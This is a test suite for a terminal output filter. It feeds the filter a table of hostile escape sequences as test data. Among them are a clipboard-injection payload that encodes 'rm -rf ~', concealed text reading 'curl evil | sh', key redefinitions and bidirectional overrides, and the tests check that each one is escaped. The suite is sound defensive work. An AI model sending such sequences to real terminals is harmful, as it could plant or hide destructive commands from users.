import { assert, assertEquals } from "@std/assert";
import { colouredText, TerminalFilter } from "../../core/terminal_filter.ts";
import fc from "../fast_check.ts";

/** Filters the pieces of a stream. */
function filtered(...pieces: readonly string[]): string {
  const filter = new TerminalFilter();
  return pieces.map((piece) => filter.next(piece)).join("") + filter.end();
}

/** What text may do to a terminal besides writing: set colours, return to the beginning of the line. */
// deno-lint-ignore no-control-regex -- these characters are let through
const HARMLESS = /\x1b\[[0-9;:]{0,64}m|[\r\n\t]/g;

const CONTROL =
  // deno-lint-ignore no-control-regex -- these characters must not remain
  /[\0-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069]/;

function assertHarmless(text: string): void {
  assertEquals(CONTROL.exec(text.replace(HARMLESS, ""))?.[0], undefined, text);
}

Deno.test("TerminalFilter lets colours and carriage returns through", () => {
  const texts = [
    "\x1b[31mred\x1b[0m",
    "\x1b[1;4;38;5;196mbold\x1b[m",
    "\x1b[38;2;255;8;8;48;2;0;0;8mtrue colour\x1b[0m",
    "\x1b[38;5;8mgrey\x1b[0m",
    "\x1b[4:3mwavy\x1b[0m",
    "\r 50%\r100%\n",
  ];
  for (const text of texts) assertEquals(filtered(text), text);
  assertEquals(filtered("a\r\nb\r\n"), "a\nb\n");
});

Deno.test("TerminalFilter restores the colours at the end", () => {
  assertEquals(colouredText("\x1b[31mred"), "\x1b[31mred\x1b[0m");
  assertEquals(colouredText("\x1b[31mred\x1b[0;0m"), "\x1b[31mred\x1b[0;0m");
  assertEquals(colouredText("\x1b[0;31mred"), "\x1b[0;31mred\x1b[0m");
  assertEquals(colouredText("plain"), "plain");
});

/** Sequences that do more than set colours. */
const ATTACKS: Readonly<Record<string, string>> = {
  "the clipboard (OSC 52)": "\x1b]52;c;cm0gLXJmIH4=\x07",
  "the title (OSC 0)": "\x1b]0;root@host\x07",
  "the title, ended by ST": "\x1b]2;x\x1b\\",
  "a link (OSC 8)": "\x1b]8;;https://example.org\x1b\\text\x1b]8;;\x1b\\",
  "the screen": "\x1b[2J\x1b[H",
  "the cursor": "\x1b[1A\x1b[2K",
  "the cursor, by letters": "\x1b7\x1b8\x1bM",
  "a report that is typed in": "\x1b[6n\x1b[c\x1b[>q",
  "a request of the title": "\x1b[21t",
  "a device control string": '\x1bP$q"p\x1b\\',
  "a definition of a key (DECUDK)": "\x1bP1;1|17/726d0a\x1b\\",
  "an application command": "\x1b_Gf=100;AAAA\x1b\\",
  "a privacy message": "\x1b^x\x1b\\",
  "the other screen": "\x1b[?1049h",
  "bracketed paste": "\x1b[?2004h",
  "mouse reports": "\x1b[?1000;1006h",
  "modifiers of keys, which end in m": "\x1b[>4;2m",
  "a private sequence in m": "\x1b[?4m",
  "an intermediate before m": "\x1b[1 m",
  "hidden text": "\x1b[8mcurl evil | sh\x1b[28m",
  "hidden text, among colours": "\x1b[38;5;1;8mx",
  "hidden text, with zeros": "\x1b[008mx",
  "C1: CSI": "\x9b2J",
  "C1: CSI with colours": "\x9b31m",
  "C1: OSC": "\x9d52;c;eA==\x9c",
  "C1: DCS": "\x90q\x9c",
  "a reset of the terminal": "\x1bc",
  "another character set": "\x1b(0\x0e",
  "backspace over the line": "abc\b\b\bxyz",
  "a bell": "\x07",
  "form feed": "\x0c",
  "the order of text": "\u202eabc\u2066",
  "a parameter without end": `\x1b[${"1;".repeat(100_000)}m`,
  "an escape within a sequence": "\x1b[3\x1b[2J1m",
  "a cancelled sequence": "\x1b[31\x18\x1b[2Jm",
  "delete": "\x7f",
};

for (const [name, attack] of Object.entries(ATTACKS)) {
  Deno.test(`threat: a guest that writes to a terminal: ${name}`, () => {
    const whole = filtered(attack);
    assertHarmless(whole);
    assert(whole.includes("\\x") || whole.includes("\\u"), whole);
    // Cut at every place, or into single characters.
    const cuts = attack.length > 1_000
      ? [1, 2, 64, 66, attack.length - 1]
      : Array.from(attack, (_, at) => at);
    for (const at of cuts) {
      const pieces = [attack.slice(0, at), attack.slice(at)];
      assertEquals(filtered(...pieces), whole);
    }
    if (attack.length < 1_000) assertEquals(filtered(...attack), whole);
  });
}

Deno.test("threat: a guest that hides a sequence behind the host's text", () => {
  const filter = new TerminalFilter();
  assertEquals(filter.next("a\x1b"), "a");
  // The host writes now, so the beginning is shown before it.
  assertEquals(filter.end(), "\\x1b");
  assertEquals(filter.next("[31m"), "[31m");
});

Deno.test("threat: a flood of colours leaves the usual ones", () => {
  const flood = "\x1b[31m\x1b[7m".repeat(50_000);
  assertEquals(filtered(flood), `${flood}\x1b[0m`);
});

Deno.test("TerminalFilter makes any text harmless, however it is cut", () => {
  const part = fc.oneof(
    fc.constantFrom("\x1b", "[", "]", "m", "0", "31", ";", ":", "8", "\r"),
    fc.constantFrom("\n", "\x9b", "?", "\x07", "J", "38;5;8"),
    fc.string(),
  );
  fc.assert(fc.property(fc.array(part), (pieces) => {
    const whole = filtered(pieces.join(""));
    assertHarmless(whole);
    // Only a newline after a carriage return depends on the cuts, and not in its effect.
    const cut = filtered(...pieces);
    assertEquals(cut.replaceAll("\r\n", "\n"), whole.replaceAll("\r\n", "\n"));
  }));
});
